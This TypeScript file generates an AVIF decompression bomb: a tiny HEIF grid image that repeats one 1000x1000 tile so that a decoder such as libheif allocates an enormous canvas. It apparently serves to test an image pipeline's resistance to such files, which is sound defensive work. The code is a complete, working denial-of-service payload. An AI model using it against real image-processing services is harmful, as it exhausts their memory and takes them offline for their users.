import sharp from 'sharp';

/**
 * An AVIF of a few hundred bytes that decodes to `side` x `side` pixels. The attack: the picture is a HEIF grid
 * (ISO 23008-12, 6.6.2.3) that shows one tile of 1000 x 1000 pixels again and again, so that the file stays
 * tiny while the decoder allocates the whole canvas (measured with libheif 1.23: some 18 bytes a pixel).
 *
 * @param side pixels, a multiple of 1000
 */
export async function avifBomb(side: number): Promise<Buffer> {
  const tile = await flatTile();
  const perSide = side / TILE;
  const tiles = perSide * perSide;
  const grid = Buffer.from([0, 1, perSide - 1, perSide - 1, ...u32(side), ...u32(side)]);
  const meta = (offset: number) => metaBox({ tile, grid, tiles, side, offset });
  const head = fileType();
  const dataStart = head.length + meta(0).length + 8;
  return Buffer.concat([head, meta(dataStart), box('mdat', grid, tile.pixels)]);
}

/** pixels */
const TILE = 1000;
const GRID_ITEM = 1;
const TILE_ITEM = 2;
/** flags of an item: a hidden one is no picture of its own */
const SHOWN = 0;
const HIDDEN = 1;

interface Tile {
  /** the whole `av1C` box */
  readonly configuration: Buffer;
  /** the AV1 bit stream */
  readonly pixels: Buffer;
}

/** The parts of a flat tile that are needed again, out of a file that libheif wrote. */
async function flatTile(): Promise<Tile> {
  const file = await sharp({
    create: { width: TILE, height: TILE, channels: 3, background: '#808080' },
  })
    .avif({ quality: 1, effort: 0, chromaSubsampling: '4:2:0' })
    .toBuffer();
  return { configuration: findBox(file, 'av1C'), pixels: findBox(file, 'mdat').subarray(8) };
}

function findBox(file: Buffer, name: string): Buffer {
  const at = file.indexOf(name, 0, 'latin1') - 4;
  if (at < 0) throw new Error(`the encoder wrote no ${name} box`);
  return file.subarray(at, at + file.readUInt32BE(at));
}

function fileType(): Buffer {
  return box('ftyp', Buffer.from('avif\0\0\0\0mif1avifmiaf', 'latin1'));
}

interface Layout {
  readonly tile: Tile;
  readonly grid: Buffer;
  readonly tiles: number;
  readonly side: number;
  /** of the first byte inside `mdat` */
  readonly offset: number;
}

function metaBox({ tile, grid, tiles, side, offset }: Layout): Buffer {
  return fullBox(
    'meta',
    0,
    fullBox('hdlr', 0, Buffer.from('\0\0\0\0pict\0\0\0\0\0\0\0\0\0\0\0\0\0', 'latin1')),
    fullBox('pitm', 0, u16(GRID_ITEM)),
    fullBox(
      'iloc',
      0,
      [0x44, 0x00],
      u16(2),
      location(GRID_ITEM, offset, grid.length),
      location(TILE_ITEM, offset + grid.length, tile.pixels.length),
    ),
    fullBox('iinf', 0, u16(2), itemInfo(GRID_ITEM, 'grid', SHOWN), itemInfo(TILE_ITEM, 'av01', HIDDEN)),
    fullBox(
      'iref',
      0,
      box('dimg', u16(GRID_ITEM), u16(tiles), Array.from({ length: tiles }, () => u16(TILE_ITEM)).flat()),
    ),
    box(
      'iprp',
      box('ipco', extent(side), extent(TILE), tile.configuration, fullBox('pixi', 0, [3, 8, 8, 8])),
      fullBox('ipma', 0, u32(2), u16(GRID_ITEM), [2, 1, 4], u16(TILE_ITEM), [3, 2, 0x83, 4]),
    ),
  );
}

const location = (item: number, offset: number, length: number) => [
  ...u16(item),
  ...u16(0),
  ...u16(1),
  ...u32(offset),
  ...u32(length),
];
const itemInfo = (item: number, type: string, visibility: number) =>
  box('infe', [2, 0, 0, visibility], u16(item), u16(0), Buffer.from(`${type}\0`, 'latin1'));
const extent = (side: number) => fullBox('ispe', 0, u32(side), u32(side));

type Part = Uint8Array | readonly number[];

function box(name: string, ...parts: Part[]): Buffer {
  const body = Buffer.concat(parts.map((part) => Buffer.from(part)));
  return Buffer.concat([Buffer.from(u32(body.length + 8)), Buffer.from(name, 'latin1'), body]);
}

function fullBox(name: string, version: number, ...parts: Part[]): Buffer {
  return box(name, [version, 0, 0, 0], ...parts);
}

const u16 = (value: number) => [value >>> 8, value & 0xff];
const u32 = (value: number) => [...u16(value >>> 16), ...u16(value & 0xffff)];
